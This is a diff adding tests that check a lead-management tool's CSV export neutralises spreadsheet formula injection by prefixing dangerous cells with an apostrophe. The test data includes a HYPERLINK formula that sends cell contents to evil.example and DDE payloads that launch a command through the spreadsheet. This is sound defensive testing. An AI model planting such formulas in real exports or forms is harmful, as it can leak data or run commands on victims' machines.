@@ -88,13 +88,43 @@ describe('CSV export', () => {
     expect(csvField('')).toBe('');
   });
 
+  it('turns every cell a spreadsheet would run as a formula into text, as a CSV parser reads it back', () => {
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
+      "+SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+    ] as const;
+    const hostile: ContactFormPayload = {
+      ...contactFormPayload,
+      nome: formulas[0],
+      azienda: formulas[1],
+      telefono: formulas[2],
+      messaggio: formulas[3],
+      origine: formulas[4],
+    };
+    const withCarriageReturn: ContactFormPayload = { ...contactFormPayload, nome: formulas[5] };
+
+    const [, first, second] = parseCsv(leadsToCsv([storedLead(hostile), storedLead(withCarriageReturn)]).slice(1));
+
+    expect(first?.[6]).toBe(`'${formulas[0]}`);
+    expect(first?.[8]).toBe(`'${formulas[1]}`);
+    expect(first?.[10]).toBe(`'${formulas[2]}`);
+    expect(first?.[12]).toBe(`'${formulas[3]}`);
+    expect(first?.[13]).toBe(`'${formulas[4]}`);
+    expect(second?.[6]).toBe(`'${formulas[5]}`);
+    for (const cell of [...(first ?? []), ...(second ?? [])]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('writes a header row and one row per lead', () => {
     const csv = leadsToCsv([storedLead(trickyPayload)]);
 
     expect(csv).toBe(
       '\uFEFFid,received_at,type,delivery_status,attempts,delivered_at,nome,cognome,azienda,email,telefono,pacchetto,messaggio,origine,timestamp\r\n' +
         '00000000-0000-4000-8000-000000000001,2025-01-15T13:00:01.000Z,Contatto dal Sito,delivered,1,2025-01-15T13:00:02.000Z,' +
-        '"Rossi, Mario",,"Bar ""Da Gino""",anna.neri@example.com,+39 030 123 4567,,' +
+        '"Rossi, Mario",,"Bar ""Da Gino""",anna.neri@example.com,\'+39 030 123 4567,,' +
         '"Prima riga\nseconda riga, con virgola\r\nterza ""citata""",Pagina Contatti - http://localhost:4173/contatti,2025-01-15T13:00:00.000Z\r\n',
     );
     const [header, row] = parseCsv(csv.slice(1));
@@ -151,6 +181,8 @@ describe('the command-line scripts on a real database', () => {
     await insert(photoVideoPackagePayload, '2024-12-31T23:59:59.000Z', 'pending');
     const inRange = await insert(trickyPayload, '2025-01-15T13:00:01.000Z', 'pending');
     await insert(contactFormPayload, '2025-02-01T00:00:00.000Z', 'pending');
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")';
+    const hostile = await insert({ ...contactFormPayload, nome: formula }, '2025-01-16T09:00:00.000Z', 'pending');
 
     const csv = await runScript('leads.ts', ['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'csv', '--db', databaseUrl]);
     const json = await runScript('leads.ts', ['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'json'], {
@@ -158,9 +190,11 @@ describe('the command-line scripts on a real database', () => {
     });
 
     const rows = parseCsv(csv.stdout.replace(/^\uFEFF/, ''));
-    expect(rows).toHaveLength(2);
+    expect(rows).toHaveLength(3);
     expect(rows[1]?.[0]).toBe(inRange);
     expect(rows[1]?.[12]).toBe('Prima riga\nseconda riga, con virgola\r\nterza "citata"');
+    expect(rows[2]?.[0]).toBe(hostile);
+    expect(rows[2]?.[6]).toBe(`'${formula}`);
     expect(JSON.parse(json.stdout)).toEqual([
       {
         id: inRange,
@@ -171,6 +205,7 @@ describe('the command-line scripts on a real database', () => {
         deliveredAt: null,
         payload: trickyPayload,
       },
+      expect.objectContaining({ id: hostile, payload: { ...contactFormPayload, nome: formula } }),
     ]);
   });
 
